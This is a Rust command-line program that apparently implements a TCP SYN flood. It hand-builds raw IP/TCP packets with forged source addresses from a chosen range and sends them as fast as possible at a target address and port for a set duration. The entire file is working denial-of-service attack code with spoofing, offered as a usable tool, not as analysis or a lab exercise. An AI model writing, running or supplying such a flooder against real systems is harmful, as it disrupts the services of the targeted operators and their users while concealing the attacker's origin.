//! SYNs as fast as one processor sends them, from addresses that nobody has: a flood.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::Result;
use clap::Parser;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// Protocol 255: the IP header comes with the packet (`raw(7)`).
const RAW: i32 = 255;
const HEADERS: usize = 40;
/// SYNs between two looks at the clock.
const BURST: u32 = 1000;

/// Sends SYNs, and says how many.
#[derive(Parser)]
#[command(about)]
struct Options {
    /// Where to.
    address: SocketAddrV4,
    /// The first two bytes of the addresses that they come from, as an address.
    #[arg(long)]
    from: Ipv4Addr,
    /// For how long, in milliseconds.
    #[arg(long, default_value_t = 3000)]
    millis: u64,
}

fn main() -> Result<()> {
    let options = Options::parse();
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    let to = SockAddr::from(SocketAddr::V4(SocketAddrV4::new(*options.address.ip(), 0)));
    let end = Instant::now() + Duration::from_millis(options.millis);
    let (mut sent, mut refused) = (0_u64, 0_u64);
    while Instant::now() < end {
        for _ in 0..BURST {
            let packet = syn(&options, (sent + refused) as u32);
            match socket.send_to(&packet, &to) {
                Ok(_) => sent += 1,
                // The way is crowded.
                Err(_) => refused += 1,
            }
        }
    }
    println!("{sent}");
    Ok(())
}

/// The packet of a number: an address and port of its own, until they are used up.
fn syn(options: &Options, number: u32) -> [u8; HEADERS] {
    let [first, second, ..] = options.from.octets();
    let mixed = number.wrapping_mul(0x9E37_79B1);
    let [third, fourth, high, low] = mixed.to_be_bytes();
    let source = [first, second, third, fourth | 1];
    let destination = options.address.ip().octets();
    let mut packet = [0; HEADERS];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(HEADERS as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&source);
    packet[16..20].copy_from_slice(&destination);
    let tcp = &mut packet[20..];
    tcp[..2].copy_from_slice(&[high | 0x80, low]);
    tcp[2..4].copy_from_slice(&options.address.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&number.wrapping_mul(0x85EB_CA6B).to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&1024_u16.to_be_bytes());
    let sum = checksum(&packet);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// TCP's checksum, the pseudo header included (RFC 793 section 3.1).
fn checksum(packet: &[u8; HEADERS]) -> u16 {
    let words = packet[12..].chunks_exact(2);
    let words = words.map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
    let mut sum = words.sum::<u32>() + 6 + 20;
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    !(sum as u16)
}
